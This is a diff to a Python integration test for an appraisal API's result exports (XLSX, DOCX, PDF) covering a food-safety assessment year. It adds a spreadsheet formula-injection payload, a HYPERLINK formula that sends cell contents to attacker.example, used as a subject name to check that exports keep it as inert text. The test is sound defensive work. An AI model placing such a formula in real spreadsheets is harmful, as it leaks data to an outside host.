@@ -9,9 +9,11 @@ from typing import Any
 
 import httpx
 import pytest
+from docx import Document
 from openpyxl import load_workbook
 
 from platformctl.testing import Platform, assert_problem
+from shared.testing_documents import pdf_pages, pdf_text, render_with_libreoffice
 
 BASE = "/api/appraisal/v1"
 COUNTIES = ["411702", *(f"4117{n}" for n in range(21, 30))]
@@ -21,6 +23,8 @@ FARMING = "市农业农村局"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 PDF = b"%PDF-1.4\n% evidence\n%%EOF\n"
 RW = ["appraisal:read", "appraisal:write"]
+DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
 
 
 @pytest.fixture(scope="module")
@@ -72,6 +76,8 @@ async def test_a_zhumadian_year_from_opening_to_rectification(
             )
         )
         ok(await city.post(f"{years}/subjects", json={"code": "wsjkw", "name": "市卫生健康委"}))
+        # a subject named like a spreadsheet formula stays text in every export
+        ok(await city.post(f"{years}/subjects", json={"code": "formula", "name": FORMULA_NAME}))
         for code, name, area, points, department in (
             ("basic-work", "食品安全工作落实情况", 1, 60, MARKET),
             ("status", "食品安全状况", 2, 40, FARMING),
@@ -345,10 +351,49 @@ async def test_a_zhumadian_year_from_opening_to_rectification(
         assert [r["subject"] for r in as_json["results"]][:2] == ["411702", "411722"]
         workbook = await city.get(f"{years}/results", headers={"Accept": XLSX})
         assert workbook.headers["content-type"] == XLSX
-        sheet = load_workbook(io.BytesIO(workbook.content))["考核结果"]
-        rows = list(sheet.iter_rows(min_row=3, values_only=True))
-        assert rows[0][:4] == ("411702", "驿城区", "county_government", 94)
-        assert (rows[0][9], rows[0][10], rows[0][11]) == (104, 1, "A")
+        book = load_workbook(io.BytesIO(workbook.content))
+        assert book.sheetnames == ["考核结果", "适用规则"]
+        sheet = book["考核结果"]
+        title = f"关于{year}年度食品安全工作考核结果的通报"
+        assert sheet["A1"].value == title
+        assert "驻马店市食品安全委员会办公室" in sheet["A2"].value
+        assert sheet.print_title_rows == "$1:$2"
+        assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
+        assert len(sheet._charts) == 2
+        rows = list(sheet.iter_rows(min_row=6, values_only=True))
+        assert rows[0][:4] == ("驿城区", "411702", "县区政府", 1)
+        assert rows[0][4] == 94
+        assert (rows[0][10], rows[0][11]) == (104, "A")
+        vetoed = next(r for r in sheet.iter_rows(min_row=6) if r[1].value == "411729")
+        assert vetoed[0].fill.fgColor.rgb.endswith("F8CBAD"), "a vetoed county is highlighted"
+        # the formula-named subject is a text cell with Excel's quote prefix, never a formula
+        (formula,) = [r[0] for r in sheet.iter_rows() if r[0].value == FORMULA_NAME]
+        assert formula.data_type == "s"
+        assert formula.quotePrefix
+        assert all(c.data_type != "f" for each in book for r in each.iter_rows() for c in r)
+        text = "\n".join(str(c.value) for r in sheet.iter_rows() for c in r if c.value)
+        assert "约谈县区政府负责同志" in text, "the consequences of the published year"
+        assert_problem(await city.get(f"{years}/results", headers={"Accept": "text/csv"}), 406)
+        document = await city.get(f"{years}/results", headers={"Accept": DOCX})
+        assert document.headers["content-type"] == DOCX
+        pdf = await city.get(f"{years}/results", params={"format": "pdf"})
+        assert pdf.headers["content-type"] == "application/pdf"
+        paragraphs = [p.text for p in Document(io.BytesIO(document.content)).paragraphs]
+        assert title in paragraphs
+        assert any("约谈县区政府负责同志" in p for p in paragraphs)
+        names = {r["name"] for r in as_json["results"]}
+        printed = pdf_text(pdf.content)
+        assert pdf_pages(pdf.content) <= 4
+        assert all(name in printed for name in names - {FORMULA_NAME})
+        rendered = render_with_libreoffice(
+            {"results.xlsx": workbook.content, "results.docx": document.content}
+        )
+        for rendered_name, content in rendered.items():
+            pages = pdf_pages(content)
+            assert 1 <= pages <= 4, f"{rendered_name} prints on {pages} pages"
+            flat = pdf_text(content).replace("\n", "").replace(" ", "")
+            assert title in flat, rendered_name
+            assert "驿城区" in flat, rendered_name
         own = ok(await xiping.get(f"{years}/results"), 200)
         assert [r["subject"] for r in own["results"]] == ["411721"]
         assert ok(await xiping.get(f"{years}/subjects"), 200)["total"] == 1
